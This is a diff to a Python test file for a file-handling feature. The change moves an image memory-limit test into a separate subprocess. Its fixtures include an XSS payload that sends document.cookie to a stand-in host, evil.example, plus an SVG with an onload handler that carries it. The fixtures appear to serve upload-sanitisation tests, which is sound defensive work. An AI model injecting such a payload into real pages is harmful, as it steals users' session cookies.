@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-import resource
+import sys
 import time
 import zipfile
 from collections.abc import Mapping
@@ -13,7 +13,7 @@ from typing import Any
 import anyio
 import pytest
 
-from requill.features.files import images, policy
+from requill.features.files import policy
 from tests.support.people import Person, Product
 from tests.support.pictures import (
     gif_of_frames,
@@ -27,6 +27,13 @@ from tests.support.pictures import (
 )
 
 pytestmark = pytest.mark.anyio
+
+_DRAW = """
+import asyncio, pathlib, resource, sys
+from requill.features.files import images
+asyncio.run(images.make_anew(*map(pathlib.Path, sys.argv[1:])))
+print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
+"""
 
 SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
@@ -121,12 +128,12 @@ async def test_texts_and_profiles_that_unpack_without_end_are_left_out_or_refuse
 
 @pytest.mark.full
 async def test_the_program_that_draws_may_not_take_the_machine(product: Product, tmp_path: Path) -> None:
-    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
     source, target = tmp_path / "source", tmp_path / "target"
     source.write_bytes(png_that_says(16_000, 4_000, rows=4_000))  # as many pixels as there may be
-    await images.make_anew(source, target)
-    taken_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
-    assert max(before, taken_kib) * 1024 < policy.IMAGE_MEMORY_BYTES
+    # A process of its own: what is told of programs includes what others took, and whoever started them.
+    drawn = await anyio.run_process([sys.executable, "-c", _DRAW, str(source), str(target)])
+    assert target.stat().st_size > 0
+    assert int(drawn.stdout) * 1024 < policy.IMAGE_MEMORY_BYTES
 
 
 @pytest.mark.full
